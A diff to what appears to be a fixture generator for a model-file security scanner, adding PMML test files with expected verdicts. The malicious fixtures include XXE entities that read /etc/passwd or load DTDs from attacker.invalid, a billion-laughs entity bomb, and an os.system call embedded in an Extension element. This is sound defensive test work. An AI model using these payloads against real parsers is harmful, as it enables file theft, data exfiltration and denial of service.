@@ -376,11 +376,75 @@ def onnx_fixtures():
     expect("onnx/truncated.onnx", "suspicious", ["PS969"])
 
 
+# --------------------------------------------------------------------------------------------
+# PMML
+# --------------------------------------------------------------------------------------------
+
+def sklearn2pmml_save(estimator, out, steps=()):
+    """A real PMML document: a fitted scikit-learn pipeline converted by sklearn2pmml (JPMML)."""
+    from sklearn.datasets import load_iris
+    from sklearn2pmml import sklearn2pmml
+    from sklearn2pmml.pipeline import PMMLPipeline
+
+    X, y = load_iris(return_X_y=True, as_frame=True)
+    pipeline = PMMLPipeline(list(steps) + [("model", estimator)])
+    pipeline.fit(X, y)
+    sklearn2pmml(pipeline, out)
+
+
+def with_doctype(text, doctype, ref=None):
+    """Insert a DOCTYPE after the XML declaration; optionally reference an entity in Timestamp."""
+    decl_end = text.index("?>") + 2
+    text = text[:decl_end] + "\n" + doctype + text[decl_end:]
+    if ref:
+        text = re.sub(r"<Timestamp>[^<]*</Timestamp>", f"<Timestamp>&{ref};</Timestamp>", text)
+    return text
+
+
+def pmml_fixtures():
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.preprocessing import StandardScaler
+    from sklearn.tree import DecisionTreeClassifier
+
+    shutil.rmtree(os.path.join(ROOT, "pmml"), ignore_errors=True)
+    lr = path("pmml", "sklearn2pmml_logistic.pmml")
+    sklearn2pmml_save(LogisticRegression(max_iter=500), lr)
+    expect("pmml/sklearn2pmml_logistic.pmml", "clean")
+    sklearn2pmml_save(DecisionTreeClassifier(max_depth=3, random_state=0),
+                      path("pmml", "sklearn2pmml_tree_scaled.pmml"), [("scale", StandardScaler())])
+    expect("pmml/sklearn2pmml_tree_scaled.pmml", "clean")
+    with open(lr) as f:
+        base = f.read()
+
+    def write(name, text, verdict, rules=()):
+        with open(path("pmml", name), "w") as f:
+            f.write(text)
+        expect(f"pmml/{name}", verdict, rules)
+
+    # PMML 2.0 documents were DTD-based: DMG's own DTD is clean. A small internal entity is clean.
+    write("dmg_dtd_pmml20.pmml", with_doctype(base, '<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd">'), "clean")
+    write("internal_entity.pmml", with_doctype(base, '<!DOCTYPE PMML [ <!ENTITY when "2024-01-01T00:00:00Z"> ]>', "when"), "clean")
+    # XXE: a local file read into the document; out-of-band through a parameter entity; a remote DTD.
+    write("xxe_file_read.pmml", with_doctype(base, '<!DOCTYPE PMML [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>', "xxe"), "dangerous", ["PS970"])
+    write("xxe_parameter_entity_oob.pmml", with_doctype(base, '<!DOCTYPE PMML [ <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote; ]>'), "dangerous", ["PS970"])
+    write("xxe_public_entity.pmml", with_doctype(base, '<!DOCTYPE PMML [ <!ENTITY x PUBLIC "-//X//EN" "http://attacker.invalid/x"> ]>', "x"), "dangerous", ["PS970"])
+    write("external_dtd.pmml", with_doctype(base, '<!DOCTYPE PMML SYSTEM "http://attacker.invalid/pmml.dtd">'), "dangerous", ["PS970"])
+    # Billion laughs: estimated, never expanded.
+    laughs = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)]
+    write("billion_laughs.pmml", with_doctype(base, "<!DOCTYPE PMML [ " + " ".join(laughs) + " ]>", "lol9"), "suspicious", ["PS971"])
+    write("undeclared_entity.pmml", base.replace("<Timestamp>", "<Timestamp>&nowhere;", 1), "suspicious", ["PS972"])
+    write("truncated.pmml", base[: len(base) // 2], "suspicious", ["PS972"])
+    write("code_in_extension.pmml",
+          base.replace("</Header>", '<Extension name="repr" value="__import__(\'os\').system(\'id\')"/></Header>', 1),
+          "suspicious", ["PS973"])
+
+
 def main():
     for sub in ["templates/made", "templates/attack", "templates/suspicious"]:
         shutil.rmtree(os.path.join(ROOT, sub), ignore_errors=True)
     templates()
     onnx_fixtures()
+    pmml_fixtures()
     for extra in sys.argv[1:]:
         print("unknown argument", extra)
     with open(os.path.join(ROOT, "manifest.json"), "w") as f:
